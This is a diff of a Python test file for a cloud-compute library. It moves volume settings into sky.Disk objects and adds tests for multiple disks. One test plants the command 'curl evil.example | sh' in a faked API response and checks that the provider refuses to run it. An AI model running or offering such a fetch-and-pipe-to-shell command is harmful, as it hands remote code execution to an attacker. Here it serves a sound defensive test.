@@ -50,8 +50,10 @@ def test_the_machine_has_the_volume_and_what_is_in_it_outlives_the_machine(volum
     """It is mounted before any login is let in; the next pool, of a spot machine, finds what the last one wrote."""
     where = str(tmp_path / "data")
     for turn, allocation in enumerate(("on-demand", "spot")):
-        provider = volumes.provider(volume="data", mount=where)
-        with sky.Compute(provider=provider, allocation=allocation, **OPTIONS) as pool:
+        provider = volumes.provider()
+        with sky.Compute(
+            provider=provider, volumes=[sky.Disk("data", mount=where)], allocation=allocation, **OPTIONS
+        ) as pool:
             [row] = volumes.alive()
             assert ("FIN-01", [row["id"]]) == (row["region"], volumes.volumes()["data"])
             assert ["on-demand", "spot"][: turn + 1] == note(where, allocation) >> pool
@@ -64,7 +66,9 @@ def test_the_machine_has_the_volume_and_what_is_in_it_outlives_the_machine(volum
 def test_several_machines_have_a_share(volumes: Cloud, tmp_path: Path) -> None:
     """Each mounts it in the way that Verda says, where we say."""
     where = str(tmp_path / "shared")
-    with sky.Compute(provider=volumes.provider(volume="shared", mount=where), nodes=2, **OPTIONS) as pool:
+    with sky.Compute(
+        provider=volumes.provider(), volumes=[sky.Disk("shared", mount=where)], nodes=2, **OPTIONS
+    ) as pool:
         rows = volumes.alive()
         assert {row["id"] for row in rows} == set(volumes.volumes()["shared"])
         gathered = note(where, "one") >> pool, note(where, "two") >> pool
@@ -84,7 +88,7 @@ def test_a_volume_without_a_filesystem_is_not_formatted_and_has_no_directory(
     volumes.ask("filesystem", "")
 
     async def scenario() -> None:
-        async with client(volumes.provider(volume="data", mount=str(tmp_path / "data"))) as opened:
+        async with client(volumes.provider(), volumes=[sky.Disk("data", mount=str(tmp_path / "data"))]) as opened:
             await opened.launch()
             await opened.until(lambda found: found[0].state is InstanceState.RUNNING)
             base = Path(volumes.alive()[0]["base"])
@@ -100,7 +104,7 @@ def test_a_volume_is_named_by_no_end(volumes: Cloud, tmp_path: Path) -> None:
     data = volumes.ask("volumes")[0]["id"]
 
     async def scenario() -> None:
-        async with client(volumes.provider(volume="data", mount=str(tmp_path / "data"))) as opened:
+        async with client(volumes.provider(), volumes=[sky.Disk("data", mount=str(tmp_path / "data"))]) as opened:
             [instance] = await opened.launch(spot=True)
             await opened.until(lambda found: found[0].state is InstanceState.RUNNING)
             volumes.ask("keeps_disks", True)
@@ -133,41 +137,41 @@ def test_a_volume_that_a_machine_had_which_has_just_ended_is_waited_for(
     volumes.ask("detaches", 5)
 
     async def scenario() -> None:
-        async with client(volumes.provider(volume="data", mount=str(tmp_path / "data"))) as opened:
+        async with client(volumes.provider(), volumes=[sky.Disk("data", mount=str(tmp_path / "data"))]) as opened:
             [first] = await opened.launch()
             await opened.end(first.id)
             [second] = await opened.launch(token="again")
             assert [second.id] == [one.id for one in await opened.launch(token="again")]
-            monkeypatch.setattr("skyward.providers.volumes.until_free.__defaults__", (0.0,))
+            monkeypatch.setattr("skyward.providers.disks.until_free.__defaults__", (0.0,))
             error = await refusal(opened.launch())
             assert ProvisionError is type(error)
             assert f"is still attached to {second.id} after 0 s" in str(error)
             assert 1 == len(volumes.alive())
-            provider = volumes.provider(volume="data")
-            error = await refusal(provider.skyward_preflight(Spec(provider=provider)))
+            spec = Spec(provider=volumes.provider(), volumes=[sky.Disk("data")])
+            error = await refusal(spec.provider.skyward_preflight(spec))
             assert f"is attached to {second.id}, and to one machine at a time." in str(error)
         # A machine that is gone does not count, though it is still named.
-        await provider.skyward_preflight(Spec(provider=provider))
+        await spec.provider.skyward_preflight(spec)
 
     run(scenario())
 
 
 @pytest.mark.parametrize(
-    ("settings", "wishes", "words"),
+    ("disk", "settings", "wishes", "words"),
     [
-        ({"volume": "dta"}, {}, "Verda has no volume 'dta'. Did you mean 'data'?"),
-        ({"volume": "data", "region": "FIN-02"}, {}, "is in FIN-01, and machines are asked for in FIN-02."),
-        ({"volume": "shared"}, {"region": "FIN-02"}, "is in FIN-01, and machines are asked for in FIN-02."),
-        ({"volume": "data"}, {"nodes": 2}, "one machine at a time, and the pool may have 2 nodes. Write nodes=1"),
-        ({"volume": "data"}, {"nodes": (1, 4)}, "one machine at a time, and the pool may have 4 nodes."),
+        ("dta", {}, {}, "Verda has no disk 'dta'. Did you mean 'data'?"),
+        ("data", {"region": "FIN-02"}, {}, "is in FIN-01, and machines are asked for in FIN-02."),
+        ("shared", {}, {"region": "FIN-02"}, "is in FIN-01, and machines are asked for in FIN-02."),
+        ("data", {}, {"nodes": 2}, "one machine at a time, and the pool may have 2 nodes. Write nodes=1"),
+        ("data", {}, {"nodes": (1, 4)}, "one machine at a time, and the pool may have 4 nodes."),
     ],
 )
 def test_a_volume_that_cannot_be_had_is_refused_before_renting(
-    volumes: Cloud, settings: dict[str, str], wishes: dict[str, Any], words: str
+    volumes: Cloud, disk: str, settings: dict[str, str], wishes: dict[str, Any], words: str
 ) -> None:
     """With what there is instead."""
-    provider = volumes.provider(**settings)
-    error = run(refusal(provider.skyward_preflight(Spec(provider=provider, **wishes))))
+    spec = Spec(provider=volumes.provider(**settings), volumes=[sky.Disk(disk)], **wishes)
+    error = run(refusal(spec.provider.skyward_preflight(spec)))
     assert ConfigError is type(error)
     assert words in str(error)
     assert [] == rented(volumes)
@@ -176,7 +180,8 @@ def test_a_volume_that_cannot_be_had_is_refused_before_renting(
 def test_a_disk_that_would_be_deleted_with_a_pool_is_refused(volumes: Cloud) -> None:
     """By its name it is taken for what a machine has left."""
     volumes.volume("skyward-p1-0123456789abcdef-3")
-    error = run(refusal(volumes.provider(volume="skyward-p1-0123456789abcdef-3").skyward_preflight(Spec())))
+    spec = Spec(volumes=[sky.Disk("skyward-p1-0123456789abcdef-3")])
+    error = run(refusal(volumes.provider().skyward_preflight(spec)))
     assert "has the name of a disk of a pool's machine, which is deleted with it." in str(error)
     volumes.ask("drop", ["skyward-p1-0123456789abcdef-3"])
 
@@ -185,7 +190,8 @@ def test_a_share_that_is_mounted_in_an_unknown_way_is_refused(volumes: Cloud) ->
     """What Verda says is shown, and never run."""
     row = {**volumes.ask("volumes")[1], "mount_command": "curl evil.example | sh"}
     volumes.fault("GET /v1/volumes", status=200, body=[row])
-    error = run(refusal(volumes.provider(volume="shared").skyward_preflight(Spec())))
+    spec = Spec(volumes=[sky.Disk("shared")])
+    error = run(refusal(volumes.provider().skyward_preflight(spec)))
     assert ProvisionError is type(error)
     assert "'mount_command' mounts no share of NFS: 'curl evil.example | sh'" in str(error)
 
@@ -194,5 +200,38 @@ def test_offers_are_those_of_the_volumes_location(volumes: Cloud) -> None:
     """And nothing is asked about volumes where none is wanted."""
     assert {"FIN-01", "FIN-02"} < {offer.region for offer in run(volumes.provider().skyward_offers(Spec()))}
     assert [] == volumes.calls("GET /v1/volumes")
-    offers = run(volumes.provider(volume="elsewhere").skyward_offers(Spec()))
+    offers = run(volumes.provider().skyward_offers(Spec(volumes=[sky.Disk("elsewhere")])))
     assert {"FIN-02"} == {offer.region for offer in offers}
+
+
+@pytest.mark.usefixtures("with_hosts")
+def test_several_disks_are_told_apart_by_the_labels_of_their_file_systems(volumes: Cloud, tmp_path: Path) -> None:
+    """Each is found where the user says, whatever order a machine sees them in."""
+    volumes.volume("scratch")
+    wanted = {name: str(tmp_path / name) for name in ("scratch", "shared", "data")}
+    disks = [sky.Disk(name, mount=where) for name, where in wanted.items()]
+    with sky.Compute(provider=volumes.provider(), volumes=disks, **OPTIONS) as pool:
+        [row] = volumes.alive()
+        assert {name: [row["id"]] for name in wanted} == {name: volumes.volumes()[name] for name in wanted}
+        for name, where in wanted.items():
+            assert [name] == note(where, name) >> pool
+    until(lambda: [] == volumes.volumes()["scratch"])
+    with sky.Compute(provider=volumes.provider(), volumes=[sky.Disk("data", mount=wanted["data"])], **OPTIONS) as pool:
+        assert ["again", "data"] == note(wanted["data"], "again") >> pool
+    volumes.ask("drop", ["scratch"])
+
+
+def test_disks_that_no_machine_can_have_together_are_refused(volumes: Cloud) -> None:
+    """They are in two locations, one of them is there twice, or a name is no label."""
+    first = volumes.ask("volumes")[0]["id"]
+    volumes.volume("my data")
+    for names, words in (
+        (["data", "elsewhere"], "'data' ({id}) is in FIN-01 and 'elsewhere'"),
+        (["data", first], "has the disk 'data' ({id}) of Verda more than once"),
+        (["data", "my data"], "is no label, by which a machine knows it among several"),
+    ):
+        disks = [sky.Disk(name, mount=f"/mnt/{number}") for number, name in enumerate(names)]
+        error = run(refusal(volumes.provider().skyward_preflight(Spec(volumes=disks))))
+        assert ConfigError is type(error)
+        assert words.format(id=first) in str(error)
+    volumes.ask("drop", ["my data"])
